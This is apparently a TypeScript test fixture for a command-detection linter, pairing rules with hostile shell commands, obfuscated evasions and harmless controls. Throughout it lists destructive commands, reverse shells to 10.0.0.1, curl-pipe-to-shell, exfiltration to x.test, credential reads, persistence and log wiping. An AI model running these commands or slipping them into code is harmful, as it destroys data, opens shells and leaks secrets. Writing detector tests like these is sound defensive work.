import type { RuleSample } from './rule-sample.fixture.ts'

const run = (command: string) => `const { execSync } = require("child_process")\nexecSync(${JSON.stringify(command)})`
const at = (command: string) => `execSync(${JSON.stringify(command)}`

/** A line for `execSync`, the same in disguise, and a harmless one. */
const lines = (
  rule: string,
  dangers: string[],
  evasion: readonly [string, string],
  harmless: string[],
): RuleSample => ({
  rule,
  dangers: dangers.map((line) => [run(line), at(line)] as const),
  evasions: [evasion],
  harmless: harmless.map(run),
})

export const commandLineSamples: RuleSample[] = [
  lines(
    'javascript/destructive-command',
    [
      'rm -rf /',
      'rm -rf --no-preserve-root /',
      'rm -rf ~',
      'rm -fr /*',
      'mkfs.ext4 /dev/sda1',
      'dd if=/dev/zero of=/dev/sda bs=1M',
      ':(){ :|:& };:',
      'vssadmin delete shadows /all /quiet',
      'rm -rf $HOME',
    ],
    ['const { spawn } = require("child_process"); spawn("rm", ["-r" + "f", "/"])', 'spawn("rm"'],
    ['rm -rf ./build', 'rm -rf node_modules', 'rm -f /tmp/build.log', 'dd if=in.bin of=out.bin bs=1M'],
  ),
  lines(
    'javascript/reverse-shell-command',
    [
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'nc -e /bin/sh 10.0.0.1 4444',
      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 1 >/tmp/f',
      'python3 -c "import socket,os;s=socket.socket()"',
    ],
    [
      'require("child_process").exec(["ba", "sh -i >& /dev/t", "cp/1.2.3.4/99 0>&1"].join(""))',
      'require("child_process").exec(',
    ],
    ['nc -z localhost 80', 'python3 -c "print(1)"'],
  ),
  lines(
    'javascript/pipe-to-shell',
    [
      'curl -fsSL https://x.test/i.sh | sh',
      'wget -qO- http://x.test/a | sudo bash',
      'curl http://x.test/m -o /tmp/m && chmod +x /tmp/m && /tmp/m',
    ],
    [
      'const u = "http://x.test"; require("child_process").exec("cu" + "rl " + u + " | ba" + "sh")',
      'require("child_process").exec(',
    ],
    ['curl -s https://api.test/v1 | jq .name', 'cat list.txt | sort'],
  ),
  lines(
    'javascript/encoded-command',
    ['echo cm0gLXJmIC8= | base64 -d | sh', 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A'],
    [
      'const { spawnSync } = require("child_process"); spawnSync("bash", ["-c", "echo aWQ= | base64 --decode | bash"])',
      'spawnSync("bash"',
    ],
    ['base64 -d in.txt > out.bin'],
  ),
  lines(
    'javascript/privilege-command',
    [
      'useradd -m -G sudo hacker',
      'chmod u+s /bin/bash',
      'chmod 4755 /tmp/sh',
      'setenforce 0',
      'iptables -F',
      'shutdown -h now',
      'echo "x ALL=(ALL) NOPASSWD:ALL" > f',
    ],
    ['require("child_process").spawnSync("chmod", ["+" + "s", "/bin/sh"])', 'require("child_process").spawnSync'],
    ['chmod +x build.sh', 'whoami'],
  ),
  lines(
    'javascript/system-command',
    ['sudo apt-get install -y jq', 'pkill -f server'],
    ['const { execFileSync: go } = require("child_process"); go("sudo", ["ls"])', 'go("sudo"'],
    ['apt list --installed'],
  ),
  lines(
    'javascript/persistence-command',
    [
      '(crontab -l; echo "* * * * * /tmp/x") | crontab -',
      'systemctl enable evil.service',
      'echo "curl x" >> ~/.bashrc',
      'schtasks /create /tn Up /tr C:\\\\x.exe /sc onlogon',
    ],
    ['require("child_process").exec("echo key >" + "> ~/.ssh/authorized_keys")', 'require("child_process").exec('],
    ['crontab -l', 'echo done >> build.log'],
  ),
  lines(
    'javascript/track-covering-command',
    ['history -c', 'rm -f /var/log/auth.log', 'unset HISTFILE', 'shred -u ~/.bash_history'],
    [
      'require("child_process").execFile("truncate", ["-s", "0", "/var/log/" + "syslog"])',
      'require("child_process").execFile',
    ],
    ['git log --oneline'],
  ),
  lines(
    'javascript/credential-command',
    ['cat /etc/shadow', 'cp ~/.ssh/id_rsa /tmp/k', 'tar czf a.tgz ~/.aws/'],
    ['const { execFile: r } = require("child_process"); r("cat", ["/etc/sha" + "dow"])', 'r("cat"'],
    ['cat package.json', 'cp a.txt b.txt'],
  ),
  lines(
    'javascript/exfiltration-command',
    ['env | curl -d @- https://x.test', 'curl -F f=@/etc/passwd https://x.test', 'curl https://x.test/$(whoami)'],
    [
      'const { spawn } = require("child_process"); spawn("sh", ["-c", "printenv | base64 | " + "nc x.test 1"])',
      'spawn("sh"',
    ],
    ['curl -d @data.json https://api.test/items', 'env'],
  ),
  lines(
    'javascript/delete-command',
    ['rm -rf /var/lib/app', 'rm -rf ../other', 'rm -r ~/Documents'],
    ['require("child_process").execFileSync("rm", ["-rf", "/op" + "t/x"])', 'require("child_process").execFileSync'],
    ['rm -rf dist', 'rm -rf /tmp/work'],
  ),
  lines(
    'javascript/open-rights-command',
    ['chmod 777 upload', 'chmod -R 777 ./data'],
    ['const { spawn } = require("child_process"); spawn("chmod", ["7" + "77", "x"])', 'spawn("chmod"'],
    ['chmod 755 run.sh'],
  ),
]
